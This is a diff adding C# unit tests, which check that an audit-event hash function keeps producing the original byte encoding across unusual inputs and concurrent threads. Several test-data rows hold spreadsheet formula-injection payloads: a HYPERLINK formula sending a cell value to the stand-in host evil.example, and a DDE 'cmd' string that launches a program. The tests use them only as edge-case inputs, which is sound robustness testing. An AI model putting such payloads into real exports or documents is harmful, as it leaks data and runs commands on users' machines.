@@ -135,4 +135,49 @@ public sealed class AuditHashTests
 
         Assert.Equal(AuditHash.Compute(utc), AuditHash.Compute(local));
     }
+
+    /// <summary>
+    /// Every stored trail was hashed with this encoding (JsonSerializer over an object array); Compute writes it with a
+    /// reused Utf8JsonWriter and must produce exactly the same bytes, or every existing chain would stop verifying.
+    /// </summary>
+    private static string ComputeAsFirstWritten(AuditEvent e) => Convert.ToHexStringLower(System.Security.Cryptography.SHA256.HashData(
+        System.Text.Encoding.UTF8.GetBytes(System.Text.Json.JsonSerializer.Serialize(new object?[]
+        {
+            e.Sequence,
+            e.OccurredAt.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.ffffff'Z'", System.Globalization.CultureInfo.InvariantCulture),
+            e.Actor, e.ActorKind.ToString(), e.SourceIp, e.Action, e.Application,
+            e.DeploymentId?.ToString("D"), e.BeforeState, e.AfterState, e.Reason, e.Details, e.PreviousHash,
+        }))));
+
+    [Theory]
+    [InlineData("alice", "ship it")]
+    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0")]
+    [InlineData("-2+3\r\nsecond\rline\n", "@SUM(1+1)\ttab <script>&amp; 'single' \\ back\u0000nul\u001f")]
+    [InlineData("é ü 日本 \U0001F680 \u2028\u2029", "")]
+    [InlineData("\ud800 lone surrogate", null)]
+    public void Compute_writes_the_bytes_the_chain_was_first_hashed_with(string actor, string? reason)
+    {
+        var e = AnEvent(actor, reason);
+        e.Details = $$"""{"note":{{System.Text.Json.JsonSerializer.Serialize(reason + actor)}},"n":1.5e3}""";
+        Assert.Equal(ComputeAsFirstWritten(e), AuditHash.Compute(e));
+
+        e.SourceIp = null;
+        e.Application = null;
+        e.DeploymentId = null;
+        e.BeforeState = null;
+        e.AfterState = null;
+        e.Details = null;
+        e.Sequence = long.MaxValue;
+        e.OccurredAt = new DateTimeOffset(2026, 12, 31, 23, 59, 59, TimeSpan.FromHours(14)).AddTicks(9_999_990);
+        Assert.Equal(ComputeAsFirstWritten(e), AuditHash.Compute(e));
+    }
+
+    [Fact]
+    public void Compute_gives_the_same_hash_on_every_thread()
+    {
+        var expected = ComputeAsFirstWritten(AnEvent());
+        var hashes = new System.Collections.Concurrent.ConcurrentBag<string>();
+        Parallel.For(0, 200, _ => hashes.Add(AuditHash.Compute(AnEvent())));
+        Assert.All(hashes, h => Assert.Equal(expected, h));
+    }
 }
